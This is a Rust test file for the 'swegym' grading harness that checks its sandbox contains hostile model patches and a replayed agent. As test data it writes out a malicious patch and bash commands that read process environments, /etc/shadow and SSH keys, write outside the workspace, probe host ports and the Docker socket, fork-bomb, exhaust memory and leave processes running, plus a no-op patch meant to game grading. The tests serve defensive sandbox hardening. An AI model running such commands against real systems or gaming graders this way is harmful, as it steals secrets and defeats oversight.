//! End to end, the attacks a policy (or a careless dataset) can make on grading: a
//! `model_patch` that reads swegym's environment and host secrets from inside the test run,
//! a task with no FAIL_TO_PASS test that would reward a no-op, a stage whose every job
//! failed in the infrastructure (which must not exit 0, in `evaluate`, `sample` or `run`),
//! and an agent's commands against the sandbox (secrets, host files, the network, writes,
//! processes, memory).

mod common;

use common::{cache_root, fails, read_parquet_with_pyarrow, repo_root, run_ok, swegym};

/// A TCP port listening on every host address (non-blocking), and the addresses a sandbox
/// might reach it by: loopback, Docker's default gateway and the host's own.
fn host_listener() -> (std::net::TcpListener, u16, Vec<String>) {
    let listener = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut addresses = vec!["127.0.0.1".to_string(), "172.17.0.1".to_string()];
    let host_ips = std::process::Command::new("hostname").arg("-I").output().map(|o| String::from_utf8_lossy(&o.stdout).to_string()).unwrap_or_default();
    addresses.extend(host_ips.split_whitespace().filter(|a| a.contains('.')).map(str::to_string));
    (listener, port, addresses)
}

/// No connection reached the listener.
fn assert_no_connection(listener: &std::net::TcpListener) {
    assert!(matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock), "a connection reached the host's listener");
}

/// A file in the host user's home folder (where `~/.ssh`, cloud credentials and tokens
/// live) holding a secret, removed when dropped. The local sandbox binds one folder under
/// the home (the Python it runs); nothing else of it may be readable inside.
struct HomeCanary {
    path: std::path::PathBuf,
    text: String,
}

impl HomeCanary {
    fn new(tag: &str) -> HomeCanary {
        let home = std::path::PathBuf::from(std::env::var_os("HOME").expect("HOME is set"));
        let path = home.join(format!(".swegym-trust-canary-{tag}-{}", std::process::id()));
        let text = format!("home-secret-{tag}-{}", std::process::id());
        std::fs::write(&path, &text).unwrap();
        HomeCanary { path, text }
    }
}

impl Drop for HomeCanary {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.path);
    }
}

/// marshmallow-1359 as a JSON object (the real SWE-bench Lite dev row).
fn marshmallow_task() -> serde_json::Value {
    let text = std::fs::read_to_string(repo_root().join("datasets/swebench-lite-marshmallow/tasks.jsonl")).unwrap();
    serde_json::from_str(text.lines().next().unwrap()).unwrap()
}

fn with_id(task: &serde_json::Value, suffix: &str) -> serde_json::Value {
    let mut t = task.clone();
    t["instance_id"] = format!("{}-{suffix}", task["instance_id"].as_str().unwrap()).into();
    t
}

fn jsonl(rows: &[serde_json::Value]) -> String {
    rows.iter().map(|r| format!("{r}\n")).collect()
}

/// A patch that adds one module nothing imports: not an empty patch (it adds a line, as a
/// comment-only patch does), yet nothing any test can see — a no-op to the tests, which a
/// task without FAIL_TO_PASS would otherwise grade resolved.
const NO_OP_PATCH: &str = "diff --git a/src/marshmallow/_note.py b/src/marshmallow/_note.py\nnew file mode 100644\n--- /dev/null\n+++ b/src/marshmallow/_note.py\n@@ -0,0 +1 @@\n+NOTE = \"nothing to see here\"\n";

/// A patch to marshmallow's `__init__.py` (3.0.0), imported before any test runs, that
/// gathers every process's environment and the host secret files it can open (`host_files`
/// besides the usual ones), tries to write outside the workspace and to connect to `port`
/// on `addresses`, forks until something stops it (capped at 3000, then kills what it
/// made), fills 6 GiB in a child process, leaves `sleep MARKER` running in a session of its
/// own, and puts what it found in the test log (as the message of an import error, so
/// pytest shows it whatever it captures).
fn leaking_patch(port: u16, addresses: &[String], host_files: &[String], marker: &str) -> String {
    let leave = format!("_seen['left'] = 'LEFT-PID %d' % _sp.Popen(['sleep', '{marker}'], start_new_session=True).pid");
    let (connect, try_connect) = (format!("for _a in {addresses:?}:"), format!("        _socket.create_connection((_a, {port}), 2)"));
    let read = format!("for _f in _glob.glob('/proc/*/environ') + ['/etc/shadow', '/etc/gshadow', '/root/.ssh/id_rsa'] + {host_files:?}:");
    let leak = [
        "import glob as _glob, os as _os",
        "_seen = {'self': dict(_os.environ)}",
        read.as_str(),
        "    try:",
        "        _seen[_f] = open(_f, 'rb').read().decode(errors='replace')",
        "    except OSError as _e:",
        "        _seen[_f] = repr(_e)",
        "for _w in ['/etc/pwned', '/usr/pwned', '/opt/venv/pwned', '/pwned']:",
        "    try:",
        "        open(_w, 'w').write('x')",
        "        _seen[_w] = 'WROTE-OUTSIDE'",
        "    except OSError as _e:",
        "        _seen[_w] = repr(_e)",
        "import socket as _socket",
        connect.as_str(),
        "    try:",
        try_connect.as_str(),
        "        _seen['net ' + _a] = 'NET-CONNECTED'",
        "    except OSError as _e:",
        "        _seen['net ' + _a] = repr(_e)",
        "import signal as _signal, subprocess as _sp, sys as _sys, time as _time",
        "_kids = []",
        "try:",
        "    while len(_kids) != 3000:",
        "        _pid = _os.fork()",
        "        if _pid == 0:",
        "            _time.sleep(30)",
        "            _os._exit(0)",
        "        _kids.append(_pid)",
        "    _seen['forks'] = 'FORKS-UNSTOPPED'",
        "except OSError as _e:",
        "    _seen['forks'] = 'FORK-STOPPED %d %s' % (len(_kids), type(_e).__name__)",
        "for _k in _kids:",
        "    _os.kill(_k, _signal.SIGKILL)",
        "    _os.waitpid(_k, 0)",
        "_seen['memory'] = 'MEMORY-EXIT %d' % _sp.run([_sys.executable, '-c', \"x = b'x' * (6 << 30)\"]).returncode",
        leave.as_str(),
        "raise RuntimeError('LEAK ' + repr(_seen))",
    ];
    let mut patch = format!(
        "diff --git a/src/marshmallow/__init__.py b/src/marshmallow/__init__.py\n--- a/src/marshmallow/__init__.py\n+++ b/src/marshmallow/__init__.py\n@@ -1,3 +1,{} @@\n",
        leak.len() + 3
    );
    for line in leak {
        patch.push_str(&format!("+{line}\n"));
    }
    patch.push_str(" from marshmallow.schema import Schema, SchemaOpts\n \n from . import fields\n");
    patch
}

#[test]
fn graded_attacks_are_contained_local() {
    if !common::slow("graded_attacks_are_contained_local") {
        return;
    }
    graded_attacks_are_contained("local");
}

#[test]
fn graded_attacks_are_contained_docker() {
    if !common::slow("graded_attacks_are_contained_docker") || !common::docker("graded_attacks_are_contained_docker") {
        return;
    }
    graded_attacks_are_contained("docker");
}

/// One `evaluate` run over three graded attacks (real marshmallow environment): a no-op
/// patch on a task whose FAIL_TO_PASS is empty is never resolved; a patch printing every
/// environment the sandbox can read shows no trace of the API key in swegym's environment,
/// no host secret (the home folder's included), cannot fork or fill memory past the
/// sandbox's limits and leaves no process behind; a task with no environment is an
/// env_error while the run finishes and reports it.
fn graded_attacks_are_contained(backend: &str) {
    let before = common::leftovers(backend);
    let tmp = tempfile::tempdir().unwrap();
    let task = marshmallow_task();
    let mut no_f2p = with_id(&task, "nof2p");
    no_f2p["FAIL_TO_PASS"] = "[]".into();
    let leak = with_id(&task, "leak");
    let mut no_env = with_id(&task, "noenv");
    no_env["version"] = "9.9".into();
    let dataset = tmp.path().join("tasks.jsonl");
    std::fs::write(&dataset, jsonl(&[no_f2p.clone(), leak.clone(), no_env.clone()])).unwrap();
    let prediction = |t: &serde_json::Value, patch: &str| {
        serde_json::json!({"instance_id": t["instance_id"], "model_name_or_path": "attacker", "model_patch": patch})
    };
    let (listener, port, addresses) = host_listener();
    let home = HomeCanary::new(&format!("graded-{backend}"));
    let host_files = [home.path.display().to_string()];
    // A sleep length no other process has (the two backends' tests run side by side).
    let marker = format!("{}{}", 700_000 + std::process::id() % 99_999, if backend == "local" { 1 } else { 2 });
    let preds = tmp.path().join("preds.jsonl");
    std::fs::write(&preds, jsonl(&[prediction(&no_f2p, NO_OP_PATCH), prediction(&leak, &leaking_patch(port, &addresses, &host_files, &marker)), prediction(&no_env, NO_OP_PATCH)])).unwrap();

    // Without the flag the task with no FAIL_TO_PASS is a bad row, named.
    let out = run_ok(swegym().args(["dataset", "stats", "--json"]).arg(&dataset));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("row 1 (marshmallow-code__marshmallow-1359-nof2p): FAIL_TO_PASS is empty"), "{stderr}");
    let stats: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(stats["instances"], 2);

    let canary = format!("sk-canary-{}-{}", std::process::id(), tmp.path().file_name().unwrap().to_string_lossy());
    let out_dir = tmp.path().join("out");
    let env_specs = repo_root().join("datasets/swebench-lite-marshmallow/environments.toml");
    let out = run_ok(
        swegym()
            .args(["--allow-no-fail-to-pass", "evaluate", "--backend", backend, "-j", "2"])
            .arg("--dataset")
            .arg(&dataset)
            .arg("--predictions")
            .arg(&preds)
            .arg("--env-specs")
            .arg(&env_specs)
            .arg("--out")
            .arg(&out_dir)
            .env("OPENAI_API_KEY", &canary)
            .env("SWEGYM_TEST_CANARY", &canary),
    );
    let rows = read_parquet_with_pyarrow(&out_dir.join("verdicts.parquet"));
    let status = |suffix: &str| {
        let row = rows.as_array().unwrap().iter().find(|r| r["instance_id"].as_str().unwrap().ends_with(suffix)).unwrap();
        (row["status"].as_str().unwrap().to_string(), row["resolved"].as_bool().unwrap())
    };
    assert_eq!(status("-nof2p"), ("unresolved".to_string(), false), "a no-op must not be rewarded");
    assert_eq!(status("-leak"), ("unresolved".to_string(), false));
    assert_eq!(status("-noenv"), ("env_error".to_string(), false));
    let summary: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(out_dir.join("summary.json")).unwrap()).unwrap();
    assert_eq!((summary["error_instances"].as_u64(), summary["resolved_instances"].as_u64()), (Some(1), Some(0)), "{summary}");

    let log = |suffix: &str| std::fs::read_to_string(out_dir.join(format!("logs/marshmallow-code__marshmallow-1359-{suffix}/attacker.log"))).unwrap();
    assert!(log("nof2p").contains("No FAIL_TO_PASS test"), "{}", log("nof2p"));
    let leak_log = log("leak");
    assert!(leak_log.contains("LEAK {") && leak_log.contains("/proc/1/environ") && leak_log.contains("'/opt/venv/pwned': "), "the attack ran and printed:\n{leak_log}");
    assert!(!leak_log.contains("WROTE-OUTSIDE"), "a graded patch wrote outside the workspace:\n{leak_log}");
    for a in &addresses {
        assert!(leak_log.contains(&format!("'net {a}': ")), "no connection attempt to {a} in:\n{leak_log}");
    }
    assert!(!leak_log.contains("NET-CONNECTED"), "a graded patch reached the host:\n{leak_log}");
    assert_no_connection(&listener);
    if backend == "local" {
        assert!(leak_log.contains("'/etc/shadow': \"FileNotFoundError"), "/etc/shadow is not there:\n{leak_log}");
    }
    // The home folder: ~/.ssh cannot be opened, and neither can a file beside it.
    let refused = |path: &str| ["FileNotFoundError", "PermissionError"].iter().any(|e| leak_log.contains(&format!("'{path}': \"{e}")));
    assert!(refused("/root/.ssh/id_rsa"), "{leak_log}");
    assert!(refused(&home.path.display().to_string()) && !leak_log.contains(&home.text), "a file in the host's home was read:\n{leak_log}");
    // Processes and memory: the pids limit stopped the forks well before the host's, and a
    // child filling 6 GiB under the 4 GiB limit did not exit normally.
    let forks: usize = leak_log.split("FORK-STOPPED ").nth(1).and_then(|r| r.split(' ').next()).and_then(|n| n.parse().ok()).unwrap_or_else(|| panic!("the forks were not stopped:\n{leak_log}"));
    assert!(forks < 1024, "{forks} forks:\n{leak_log}");
    assert!(leak_log.contains("'memory': 'MEMORY-EXIT ") && !leak_log.contains("MEMORY-EXIT 0'"), "6 GiB were filled under a 4 GiB limit:\n{leak_log}");
    // Nothing the patch started outlives its sandbox.
    assert!(leak_log.contains("'left': 'LEFT-PID "), "the patch started its process:\n{leak_log}");
    let left = std::process::Command::new("pgrep").args(["-f", &format!("sleep {marker}")]).output().unwrap();
    assert!(left.stdout.is_empty(), "a process the graded patch left runs on: {}", String::from_utf8_lossy(&left.stdout));
    // (A container's /etc/shadow is its image's own.) No password hash of the host's shows.
    let host_shadow = std::fs::read_to_string("/etc/shadow").unwrap_or_default();
    for hash in host_shadow.lines().filter_map(|l| l.split(':').nth(1)).filter(|h| h.len() > 3) {
        assert!(!leak_log.contains(hash), "a host password hash is in the log");
    }
    // The key is nowhere in anything the run wrote.
    for entry in walk(&out_dir) {
        let bytes = std::fs::read(&entry).unwrap();
        assert!(!String::from_utf8_lossy(&bytes).contains(&canary), "{} holds the canary secret", entry.display());
    }
    assert!(!String::from_utf8_lossy(&out.stdout).contains(&canary) && !String::from_utf8_lossy(&out.stderr).contains(&canary));
    common::assert_nothing_left(backend, &before);
}

/// Every file under `dir`.
fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if path.is_dir() {
            files.extend(walk(&path));
        } else {
            files.push(path);
        }
    }
    files
}

/// Two copies of marshmallow-1359 whose version no environment anywhere has.
fn tasks_without_an_environment() -> Vec<serde_json::Value> {
    let task = marshmallow_task();
    ["a", "b"]
        .iter()
        .map(|s| {
            let mut t = with_id(&task, s);
            t["version"] = "9.9".into();
            t
        })
        .collect()
}

/// When every grading job failed in the infrastructure, `evaluate` says so and exits 4
/// (scripts must not read it as success); the verdicts are still written.
#[test]
fn evaluate_exits_4_when_every_job_failed_in_the_infrastructure() {
    let tmp = tempfile::tempdir().unwrap();
    let rows = tasks_without_an_environment();
    let dataset = tmp.path().join("tasks.jsonl");
    std::fs::write(&dataset, jsonl(&rows)).unwrap();
    let preds: Vec<serde_json::Value> = rows
        .iter()
        .map(|t| serde_json::json!({"instance_id": t["instance_id"], "model_name_or_path": "m", "model_patch": t["patch"]}))
        .collect();
    std::fs::write(tmp.path().join("preds.jsonl"), jsonl(&preds)).unwrap();
    let out_dir = tmp.path().join("out");
    let stderr = fails(
        swegym()
            .args(["evaluate", "--backend", "local", "--dataset"])
            .arg(&dataset)
            .arg("--predictions")
            .arg(tmp.path().join("preds.jsonl"))
            .arg("--out")
            .arg(&out_dir),
        4,
    );
    assert!(stderr.contains("every one of 2 grading jobs failed in the infrastructure (env_error)"), "{stderr}");
    assert!(out_dir.join("verdicts.parquet").exists() && out_dir.join("summary.json").exists());
}

/// `sample --evaluate` and `run` exit 4 as `evaluate` does when every rollout failed in the
/// infrastructure (no environment has the tasks' version), and say so.
#[test]
fn sample_and_run_exit_4_when_every_rollout_failed_in_the_infrastructure() {
    let tmp = tempfile::tempdir().unwrap();
    let rows = tasks_without_an_environment();
    let dataset = tmp.path().join("tasks.jsonl");
    std::fs::write(&dataset, jsonl(&rows)).unwrap();
    let out = tmp.path().join("rollouts.parquet");
    let stderr = fails(swegym().args(["sample", "--policy", "oracle", "--backend", "local", "-k", "1", "--evaluate", "--dataset"]).arg(&dataset).arg("--out").arg(&out), 4);
    assert!(stderr.contains("every one of 2 grading jobs failed in the infrastructure (env_error)") && stderr.contains("version 9.9"), "{stderr}");
    let config = tmp.path().join("run.toml");
    let text = format!(
        "[run]\niterations = 1\n[dataset.train]\npath = \"{ds}\"\n[dataset.test]\npath = \"{ds}\"\n[policy]\nmodel = \"{model}\"\n[sandbox]\nbackend = \"local\"\n",
        ds = dataset.display(),
        model = cache_root().join("models/SmolLM2-135M-Instruct.Q4_1.gguf").display()
    );
    std::fs::write(&config, text).unwrap();
    let stderr = fails(swegym().args(["run"]).arg(&config).arg("--run-dir").arg(tmp.path().join("run")), 4);
    assert!(stderr.contains("every rollout failed in the infrastructure"), "{stderr}");
}

/// `run` refuses the flag that lets tasks without FAIL_TO_PASS load (usage error, exit 2).
#[test]
fn run_refuses_tasks_without_fail_to_pass() {
    let stderr = fails(swegym().args(["--allow-no-fail-to-pass", "run", "configs/demo.toml"]), 2);
    assert!(stderr.contains("does not apply to `swegym run`"), "{stderr}");
}

#[test]
fn agent_commands_are_contained_local() {
    if !common::slow("agent_commands_are_contained_local") {
        return;
    }
    agent_commands_are_contained("local");
}

#[test]
fn agent_commands_are_contained_docker() {
    if !common::slow("agent_commands_are_contained_docker") || !common::docker("agent_commands_are_contained_docker") {
        return;
    }
    agent_commands_are_contained("docker");
}

fn bash(command: &str) -> String {
    format!("<function=execute_bash>\n<parameter=command>{command}</parameter>\n</function>")
}

/// An agent (a replayed script, through `swegym sample`) that reads every environment it
/// can, host secrets and a host file named by its path, writes outside the workspace,
/// connects to a port listening on every host address, leaves a process behind, forks
/// until something stops it and allocates past the memory limit: each attempt fails inside
/// the sandbox, and the API key in swegym's environment appears in no rollout, summary or
/// output.
fn agent_commands_are_contained(backend: &str) {
    let before = common::leftovers(backend);
    let tmp = tempfile::tempdir().unwrap();
    let dataset = tmp.path().join("tasks.jsonl");
    std::fs::write(&dataset, jsonl(&[marshmallow_task()])).unwrap();
    // A sleep length no other process has (the two backends' tests run side by side).
    let marker = format!("{}{}", 900_000 + std::process::id() % 99_999, if backend == "local" { 1 } else { 2 });
    // A host file the agent knows the path of, and a host port that listens on every
    // address: neither may be reachable from inside.
    let host_secret = tmp.path().join("host-secret.txt");
    let secret_text = format!("host-secret-{}", std::process::id());
    std::fs::write(&host_secret, &secret_text).unwrap();
    let home = HomeCanary::new(&format!("agent-{backend}"));
    let (listener, port, addresses) = host_listener();
    let connect = format!(
        "import socket\nfor a in {addresses:?}:\n    try:\n        socket.create_connection((a, {port}), 2); print('NET-CONNECTED', a)\n    except OSError as e:\n        print('net-refused', a, type(e).__name__)\n"
    );
    // Forks until the sandbox's pids limit stops it (capped at 3000 so that a sandbox
    // without one cannot exhaust the host), then kills what it made.
    let fork_bomb = "import os, signal, time\nkids = []\ntry:\n    while len(kids) != 3000:\n        pid = os.fork()\n        if pid == 0:\n            time.sleep(30); os._exit(0)\n        kids.append(pid)\nexcept OSError as e:\n    print('FORK-STOPPED', len(kids), type(e).__name__)\nfor k in kids:\n    os.kill(k, signal.SIGKILL); os.waitpid(k, 0)\nprint('FORKS', len(kids))\n";
    let replies = vec![
        // The whole of pid 1's environment and the shell's, and a search of every process's
        // (a count of 0 means: found nowhere), so no truncation can hide a leak.
        bash("echo '== /proc/1/environ'; tr '\\0' '\\n' < /proc/1/environ; echo '== env'; env; echo canary-count-$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c -e SWEGYM_TEST_CANARY -e OPENAI_API_KEY)"),
        bash(&format!("cat /etc/shadow /etc/gshadow; ls /root/.ssh /root/.cache/swegym 2>&1; cat {} {} 2>&1; echo read-done", host_secret.display(), home.path.display())),
        bash("for p in /etc/pwned /usr/pwned /opt/venv/pwned /pwned; do touch $p 2>/dev/null && echo WROTE $p; done; echo write-done"),
        bash(&format!("cat > /tmp/net.py <<'EOF'\n{connect}EOF\npython3 /tmp/net.py; echo net-done")),
        bash(&format!("(sleep {marker} &) ; echo left-a-process")),
        bash("grep CapEff /proc/self/status; for s in /var/run/docker.sock /run/docker.sock; do test -e $s && echo SOCKET-VISIBLE $s; done; echo caps-done"),
        bash(&format!("cat > /tmp/forks.py <<'EOF'\n{fork_bomb}EOF\npython3 /tmp/forks.py; echo forks-done")),
        // Filled, not just reserved: untouched pages would count against no limit.
        bash("python3 -c \"x = b'x' * (6 << 30); print('ALLOCATED', len(x))\"; echo memory-exit-$?"),
        "I am done.\n<function=finish>\n<parameter=message>done</parameter>\n</function>".to_string(),
    ];
    let replay = tmp.path().join("attack.json");
    std::fs::write(&replay, serde_json::to_string(&replies).unwrap()).unwrap();
    let canary = format!("sk-canary-agent-{}-{}", std::process::id(), tmp.path().file_name().unwrap().to_string_lossy());
    let out = tmp.path().join("rollouts.parquet");
    let env_specs = repo_root().join("datasets/swebench-lite-marshmallow/environments.toml");
    let run = run_ok(
        swegym()
            .args(["sample", "--policy", "replay", "--backend", backend, "-k", "1", "-j", "1", "--memory-gib", "2", "--dataset"])
            .arg(&dataset)
            .arg("--replay-file")
            .arg(&replay)
            .arg("--env-specs")
            .arg(&env_specs)
            .arg("--out")
            .arg(&out)
            .env("OPENAI_API_KEY", &canary)
            .env("SWEGYM_TEST_CANARY", &canary),
    );
    let rows = read_parquet_with_pyarrow(&out);
    let row = &rows.as_array().unwrap()[0];
    let observations: Vec<String> = row["messages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["role"] == "user")
        .map(|m| m["content"].as_str().unwrap().to_string())
        .collect();
    let all = observations.join("\n");
    assert_eq!(row["exit_reason"], "submitted", "{row}");
    for done in ["read-done", "write-done", "net-done", "left-a-process", "forks-done", "memory-exit-"] {
        assert!(all.contains(done), "the attack step ending in {done} ran:\n{all}");
    }
    assert!(all.contains("== /proc/1/environ") && all.contains("== env") && all.contains("canary-count-0"), "{all}");
    assert!(!all.contains("WROTE"), "a write outside the workspace succeeded:\n{all}");
    // Host files: the cache (libtorch, the models) and a file the agent named by its path.
    assert!(!all.contains(&secret_text) && !all.contains(&home.text) && !all.contains("libtorch-") && !all.contains(".gguf"), "a host file was read:\n{all}");
    // The network: every address tried, none connected, and the listener saw nothing.
    for a in &addresses {
        assert!(all.contains(&format!("net-refused {a} ")), "no refusal for {a}:\n{all}");
    }
    assert!(!all.contains("NET-CONNECTED"), "the sandbox reached the host:\n{all}");
    assert_no_connection(&listener);
    // Processes: the pids limit stopped the forks well before the host's.
    let forks: usize = all.lines().find_map(|l| l.strip_prefix("FORKS ")).and_then(|n| n.trim().parse().ok()).expect("the fork step printed its count");
    assert!(all.contains("FORK-STOPPED") && forks < 1024, "{forks} forks:\n{all}");
    assert!(!all.contains(&format!("ALLOCATED {}", 6u64 << 30)), "6 GiB were filled under a 2 GiB limit:\n{all}");
    assert!(!all.contains("memory-exit-0"), "{all}");
    // No Docker socket, and no raw sockets, device nodes or chroot (the local sandbox keeps
    // no capability at all).
    assert!(all.contains("caps-done") && !all.contains("SOCKET-VISIBLE"), "{all}");
    let cap_eff = all.lines().find_map(|l| l.strip_prefix("CapEff:")).map(|hex| u64::from_str_radix(hex.trim(), 16).unwrap()).expect("CapEff printed");
    const NET_RAW: u64 = 1 << 13;
    const SYS_CHROOT: u64 = 1 << 18;
    const MKNOD: u64 = 1 << 27;
    match backend {
        "local" => assert_eq!(cap_eff, 0, "{all}"),
        _ => assert_eq!(cap_eff & (NET_RAW | SYS_CHROOT | MKNOD), 0, "CapEff {cap_eff:#x}"),
    }
    let host_shadow = std::fs::read_to_string("/etc/shadow").unwrap_or_default();
    for hash in host_shadow.lines().filter_map(|l| l.split(':').nth(1)).filter(|h| h.len() > 3) {
        assert!(!all.contains(hash), "a host password hash is in an observation");
    }
    // The key is in nothing the run wrote or printed.
    for entry in walk(tmp.path()).into_iter().filter(|p| p != &replay) {
        let bytes = std::fs::read(&entry).unwrap();
        assert!(!String::from_utf8_lossy(&bytes).contains(&canary), "{} holds the canary secret", entry.display());
    }
    assert!(!String::from_utf8_lossy(&run.stdout).contains(&canary) && !String::from_utf8_lossy(&run.stderr).contains(&canary));
    // Nothing the agent started outlives its sandbox.
    let left = std::process::Command::new("pgrep").args(["-f", &format!("sleep {marker}")]).output().unwrap();
    assert!(left.stdout.is_empty(), "a process the agent left runs on: {}", String::from_utf8_lossy(&left.stdout));
    common::assert_nothing_left(backend, &before);
}
